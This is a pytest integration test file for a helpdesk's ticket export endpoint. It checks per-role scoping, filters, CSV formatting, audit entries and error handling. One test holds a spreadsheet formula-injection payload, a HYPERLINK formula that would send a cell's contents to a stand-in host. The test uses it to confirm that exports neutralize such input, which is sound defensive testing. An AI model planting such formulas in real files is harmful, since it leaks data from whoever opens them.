"""Exports over HTTP: every ticket once, as the list shows it, in files that spreadsheets and programs can read."""

import csv
import io
import json
from typing import Any

import httpx
import pytest

from gongdan.api.adapters.tickets import PostgresTickets
from gongdan.api.handlers import exporting
from gongdan.shared.definitions.catalog import catalog_of
from gongdan.shared.errors import RetryLater
from tests.integration.api.crowd import crowd, forms, settle
from tests.integration.api.live import Live
from tests.integration.api.people import session
from tests.integration.api.test_pivots import FILTERED, listed
from tests.kit.whole_story import WholeStory
from tests.unit.shared.access.given import agent, role

CROWD = crowd(300)
MAY: Any = {"actions": ["Export"], "fields": {"*": "read"}}
SCOPES = {"odd": "ticket.subject.endsWith('7')", "team": "ticket.team == 'first'", "whole": "true"}


@pytest.fixture
async def told(live: Live, monkeypatch: pytest.MonkeyPatch) -> Live:
    """api with the crowd, and pages that are short."""
    monkeypatch.setattr(exporting, "PAGE", 23)
    await settle(live.database, CROWD)
    people = [one for name in SCOPES for one in (role(name, scope=SCOPES[name], **MAY), agent(name, name))]
    live.definitions.current = catalog_of(1, [*people, *forms("support", "repair")])
    return live


async def export(live: Live, headers: dict[str, str] | None = None, **query: Any) -> httpx.Response:
    """An export that must be answered."""
    client = live.stranger if headers else live.client
    answer = await client.get("/v1/reports/export", params=query, headers=headers)
    assert answer.status_code == 200, answer.text
    return answer


def table(answer: httpx.Response) -> list[dict[str, str]]:
    """The rows of a CSV."""
    return list(csv.DictReader(io.StringIO(answer.content.decode("utf-8-sig"), newline=""), strict=True))


@pytest.mark.parametrize("name", SCOPES)
async def test_everybody_gets_exactly_the_tickets_of_their_list_each_once(told: Live, name: str) -> None:
    headers = await session(told, f"agent:{name}")
    expected = [one["number"] for one in await listed(told, headers, sort="-number")]
    answer = await export(told, headers, format="ndjson", sort="-number", columns="number")
    assert [json.loads(line)["number"] for line in answer.text.splitlines()] == expected
    assert [one["number"] for one in table(await export(told, headers, sort="-number"))] == expected
    assert expected


@pytest.mark.parametrize("filters", FILTERED)
async def test_filters_are_those_of_the_list(told: Live, filters: dict[str, Any]) -> None:
    expected = {one["number"] for one in await listed(told, **filters)}
    assert {one["number"] for one in table(await export(told, **filters))} == expected


async def test_every_value_is_there_and_stays_what_it_is(told: Live) -> None:
    listing = {one["number"]: one for one in await listed(told)}
    answer = await export(told, format="ndjson")
    assert answer.headers["content-type"] == "application/x-ndjson"
    for line in answer.text.splitlines():
        row = json.loads(line)
        ticket = listing[row["number"]]
        plain = ("workspace", "channel", "subject", "status", "priority", "category", "team", "assignee", "tags")
        assert {name: row[name] for name in plain} == {name: ticket[name] for name in plain}
        assert row["requester.email"] == ticket["requester"]["email"]
        assert row["fields.parts"] == ticket["fields"].get("parts")
        assert row["fields.price.amount"] == (ticket["fields"].get("price") or {}).get("amount")
        assert row["other_fields"] is None


async def test_a_csv_is_as_rfc_4180_says_and_times_are_in_the_workspaces_zone(told: Live) -> None:
    answer = await export(told, workspace="repair", columns=["number", "created_at", "tags", "fields.cost"])
    assert answer.headers["content-type"] == "text/csv; charset=utf-8"
    assert answer.headers["content-disposition"] == 'attachment; filename="tickets.csv"'
    assert answer.headers["cache-control"] == "no-store"
    assert answer.content.startswith(b'"number","created_at","tags","fields.cost"\r\n')
    assert answer.content.count(b"\r\n") == answer.content.count(b"\n") == len(table(answer)) + 1
    assert all(one["created_at"].endswith("+08:00") for one in table(answer))


async def test_excel_is_told_that_it_is_utf_8_only_where_asked(told: Live) -> None:
    assert (await export(told, bom="true")).content.startswith(b"\xef\xbb\xbf")
    assert not (await export(told)).content.startswith(b"\xef")
    assert not (await export(told, bom="true", format="ndjson")).content.startswith(b"\xef")


async def test_what_a_stranger_wrote_is_no_formula_in_a_spreadsheet(live: Live) -> None:
    subject = '=HYPERLINK("https://example.com?"&A1;"打印机")\r\n,x'
    await live.tell(*WholeStory(1, subject=subject).opened())
    assert [one["subject"] for one in table(await export(live))] == [f"'{subject}"]
    assert json.loads((await export(live, format="ndjson")).text)["subject"] == subject


async def test_an_export_is_in_the_audit_before_it_is_read(told: Live) -> None:
    headers = await session(told, "agent:team")
    await export(told, headers, priority="high", columns=["number", "subject"])
    entry = (await told.client.get("/v1/audit", params={"kind": "exported"})).json()["items"][0]
    assert (entry["actor"], entry["subject"]) == ("agent:team", "tickets")
    assert (entry["detail"]["format"], entry["detail"]["columns"]) == ("csv", "number subject")
    assert json.loads(entry["detail"]["filters"])["priority"] == ["high"]
    assert entry["detail"]["rows"].startswith("at most ")


async def test_an_empty_export_still_names_its_columns(told: Live) -> None:
    assert (await export(told, workspace="none", columns="number")).text == '"number"\r\n'
    assert (await export(told, workspace="none", format="ndjson")).text == ""


async def test_more_than_an_export_may_hold_is_refused_before_it_begins(
    told: Live, monkeypatch: pytest.MonkeyPatch
) -> None:
    monkeypatch.setattr(exporting, "MOST_ROWS", 299)
    answer = await told.client.get("/v1/reports/export")
    assert (answer.status_code, "created_since" in answer.json()["errors"][0]["cure"]) == (422, True)


async def test_an_export_that_cannot_be_finished_does_not_look_finished(
    told: Live, monkeypatch: pytest.MonkeyPatch
) -> None:
    some, asked = PostgresTickets.some, []

    async def failing(*given: Any) -> Any:
        asked.append(given)
        if len(asked) == 3:
            raise RetryLater("gone")
        return await some(*given)

    monkeypatch.setattr(PostgresTickets, "some", failing)
    with pytest.raises(httpx.RemoteProtocolError):
        await told.client.get("/v1/reports/export")


async def test_places_are_given_back_however_an_export_ends(told: Live, monkeypatch: pytest.MonkeyPatch) -> None:
    for _ in range(exporting.AT_ONCE + 1):
        async with told.client.stream("GET", "/v1/reports/export", params={"columns": "number"}) as answer:
            assert answer.status_code == 200
    monkeypatch.setattr(exporting, "MOST_ROWS", 1)
    for _ in range(exporting.AT_ONCE + 1):
        assert (await told.client.get("/v1/reports/export")).status_code == 422
    monkeypatch.undo()
    assert len(table(await export(told))) == len(CROWD)


SENSELESS = (
    ("columns=colour", "columns"),
    ("columns=fields.none", "columns"),
    ("format=xlsx", "format"),
    ("sort=updated_at", "sort"),
    ("time_zone=Mars/North", "time_zone"),
    ("created_since=yesterday", "created_since"),
)


async def test_what_cannot_be_exported_is_refused_with_its_name_and_a_cure(told: Live) -> None:
    for query, named in SENSELESS:
        answer = await told.client.get(f"/v1/reports/export?{query}")
        assert answer.status_code == 422, query
        assert answer.json()["errors"][0]["field"] == named, query
        assert answer.json()["errors"][0]["cure"], query
